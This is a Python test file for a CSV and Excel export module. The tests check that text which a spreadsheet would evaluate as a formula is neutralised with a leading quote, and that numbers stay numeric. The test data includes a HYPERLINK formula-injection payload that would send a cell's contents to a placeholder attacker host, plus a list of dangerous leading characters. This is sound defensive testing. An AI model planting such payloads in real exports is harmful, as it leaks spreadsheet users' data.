"""kern.export, the one writer of every CSV and Excel export (issue 12 'Beveiliging'): text
that a spreadsheet would compute gets the OWASP quote and is stored as text; numbers stay
numbers; our import reads every neutralised text back exactly."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from fractions import Fraction

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kern import export

GEVAARLIJK = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "tekst",
    ['=HYPERLINK("http://evil.example/?d="&B2,"Klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_a_text_that_starts_like_a_formula_gets_a_quote_in_front(tekst):
    assert export.onschadelijk(tekst) == "'" + tekst
    assert export.als_ingevoerd("'" + tekst) == tekst


@pytest.mark.parametrize("tekst", ["Besluit", "", " =1+1", "'tekst", "pm", "2023-05", "1-2"])
def test_other_text_stays_as_it_is(tekst):
    assert export.onschadelijk(tekst) == tekst
    assert export.als_ingevoerd(tekst) == tekst


@given(st.text())
def test_every_text_comes_out_inert_and_reads_back_exactly(tekst):
    uit = export.onschadelijk(tekst)
    assert not uit.startswith(GEVAARLIJK)
    assert export.als_ingevoerd(uit) == tekst


def test_csv_neutralises_text_and_writes_numbers_as_numbers():
    rijen = [
        ["tekst", "=1+1", "-3", None, True],
        ["getal", -3, Decimal("-2.50"), Fraction(-1, 3), -0.5],
        ["numpy", np.int64(-7), np.float64(-1.25), date(2023, 5, 1), datetime(2023, 5, 1, 9, 5)],
    ]
    tekst = export.csv_bestand(rijen).decode("utf-8")
    assert tekst.startswith("\ufeff")
    gelezen = list(csv.reader(io.StringIO(tekst.lstrip("\ufeff")), delimiter=";"))
    assert gelezen == [
        ["tekst", "'=1+1", "'-3", "", "ja"],
        ["getal", "-3", "-2,5", "-0,3333", "-0,5"],
        ["numpy", "-7", "-1,25", "2023-05-01", "2023-05-01 09:05"],
    ]
    komma = export.csv_bestand([[Decimal("2.5"), "@x"]], scheiding=",", bom=False)
    assert komma == b"2.5,'@x\r\n"


def test_a_separator_or_quote_inside_a_text_does_not_open_a_new_cell():
    tekst = export.csv_bestand([["a;=1+1", 'b"c', "d\r\n=1"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(tekst), delimiter=";")) == [["a;=1+1", 'b"c', "d\r\n=1"]]


def test_excel_stores_neutralised_text_as_text_and_numbers_as_numbers():
    inhoud = export.xlsx_bestand(
        "proef",
        ["=kop", "getal"],
        [
            ['=HYPERLINK("http://evil.example/","Klik")', -3],
            ["\t=1+1", Decimal("-2.5")],
            ["bel\x07 en nul\x00", Fraction(1, 4)],
            ["-3", np.int64(-7)],
        ],
    )
    blad = load_workbook(io.BytesIO(inhoud))["proef"]
    cellen = [[(c.value, c.data_type) for c in rij] for rij in blad.iter_rows()]
    assert cellen == [
        [("'=kop", "s"), ("getal", "s")],
        [('\'=HYPERLINK("http://evil.example/","Klik")', "s"), (-3, "n")],
        [("'\t=1+1", "s"), (-2.5, "n")],
        [("bel en nul", "s"), (0.25, "n")],  # Excel cannot store control characters
        [("'-3", "s"), (-7, "n")],
    ]
    assert blad.freeze_panes == "A2" and blad["A1"].font.bold


def test_every_export_writes_through_kern_export():
    """A CSV or Excel writer elsewhere would skip the neutralising; reading (the import) may
    use openpyxl and csv directly. bench/ writes its own measurement input, not an export."""
    from pathlib import Path

    wortel = Path(export.__file__).resolve().parents[1]
    schrijvers = ("csv.writer", "DictWriter", "Workbook(", "tablib", "xlsxwriter")
    elders = []
    for pad in wortel.rglob("*.py"):
        deel = pad.relative_to(wortel).parts
        if deel[0] in {".venv", ".tools", "tests", "bench", "node_modules"}:
            continue
        if deel == ("kern", "export.py"):
            continue
        tekst = pad.read_text(encoding="utf-8")
        elders += [f"{pad.relative_to(wortel)}: {s}" for s in schrijvers if s in tekst]
    assert elders == []
